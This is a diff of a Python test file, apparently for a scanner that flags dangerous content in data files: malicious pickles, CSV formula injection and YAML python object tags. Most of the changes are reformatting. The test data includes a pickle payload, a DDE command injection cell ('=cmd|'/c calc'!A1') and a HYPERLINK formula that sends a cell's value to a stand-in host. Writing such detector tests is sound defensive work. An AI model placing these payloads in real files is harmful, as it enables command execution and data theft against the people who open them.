@@ -28,7 +28,9 @@ HARMFUL = pickle.dumps(Runs())
 # --- DAT001, DAT006
 
 
-@pytest.mark.parametrize("name", ["a.csv", "a.tsv", "a.json", "a.jsonl", "a.parquet", "a.arrow", "data/a.txt", "a.dat", "a.data", "A.CSV"])
+@pytest.mark.parametrize(
+    "name", ["a.csv", "a.tsv", "a.json", "a.jsonl", "a.parquet", "a.arrow", "data/a.txt", "a.dat", "a.data", "A.CSV"]
+)
 def test_dat001_bad_pickle(name: str) -> None:
     assert "DAT001" in ids(look_at(HARMFUL, name))
 
@@ -123,7 +125,7 @@ def test_dat002_bad_wide_text_and_declared_delimiter() -> None:
 
 def test_dat002_bad_after_a_quote_that_never_closes(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("assaymark.data.tables._FIELD", 1 << 16)
-    data = b"a,b\n1,\"open\n" + b"x,y\n" * 30_000 + b"2,=cmd|'/c calc'!A1\n"
+    data = b'a,b\n1,"open\n' + b"x,y\n" * 30_000 + b"2,=cmd|'/c calc'!A1\n"
     report = look_at(data, "a.csv")
     assert "DAT002" in ids(report)
 
@@ -140,7 +142,9 @@ def test_dat002_good_cell(cell: str) -> None:
     assert not look_at(table(cell, "y", cell), "a.csv").findings
 
 
-@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x.example?"&A1,"click")', "=SUM(A1:A9)", "= CONCATENATE(A1)", "=-SUM(A1)"])
+@pytest.mark.parametrize(
+    "cell", ['=HYPERLINK("http://x.example?"&A1,"click")', "=SUM(A1:A9)", "= CONCATENATE(A1)", "=-SUM(A1)"]
+)
 def test_dat007_bad_formula(cell: str) -> None:
     assert ids(look_at(table(cell), "a.csv")) == {"DAT007"}
 
@@ -153,7 +157,7 @@ def test_dat007_good_cell(cell: str) -> None:
 def test_real_tables_are_quiet() -> None:
     random = np.random.default_rng(0)
     frame = pd.DataFrame(random.normal(size=(200, 5)))
-    frame["text"] = ["- item, (x) \"q\" | ! =", "@user: hi", "+1", "a;b"] * 50
+    frame["text"] = ['- item, (x) "q" | ! =', "@user: hi", "+1", "a;b"] * 50
     for delimiter in ",;\t|":
         data = frame.to_csv(sep=delimiter).encode()
         assert not look_at(data, "a.csv").findings
@@ -206,8 +210,18 @@ def test_dat004_good_other_base64() -> None:
     rows = []
     for _ in range(300):
         noise = b"\x80" + bytes([int(random.integers(0, 6))]) + random.bytes(400)
-        rows.append(json.dumps({"image": base64.b64encode(random.bytes(600)).decode(), "emb": base64.b64encode(noise).decode()}))
-    rows.append(json.dumps({"png": base64.b64encode(b"\x89PNG\r\n\x1a\n" + random.bytes(99)).decode(), "id": "Y2xhc3M", "h": "80041234567890abcdef"}))
+        rows.append(
+            json.dumps({"image": base64.b64encode(random.bytes(600)).decode(), "emb": base64.b64encode(noise).decode()})
+        )
+    rows.append(
+        json.dumps(
+            {
+                "png": base64.b64encode(b"\x89PNG\r\n\x1a\n" + random.bytes(99)).decode(),
+                "id": "Y2xhc3M",
+                "h": "80041234567890abcdef",
+            }
+        )
+    )
     assert not look_at("\n".join(rows).encode(), "a.jsonl").findings
 
 
@@ -257,7 +271,9 @@ def test_dat010_bad_tag(tag: str) -> None:
 
 
 def test_dat011_bad_inert_object() -> None:
-    report = look_at(b"p: !!python/object/apply:pathlib.PosixPath [a, b]\nn: !!python/object:argparse.Namespace {x: 1}\n", "a.yaml")
+    report = look_at(
+        b"p: !!python/object/apply:pathlib.PosixPath [a, b]\nn: !!python/object:argparse.Namespace {x: 1}\n", "a.yaml"
+    )
     assert ids(report) == {"DAT011"}
     assert not severe(report)
 
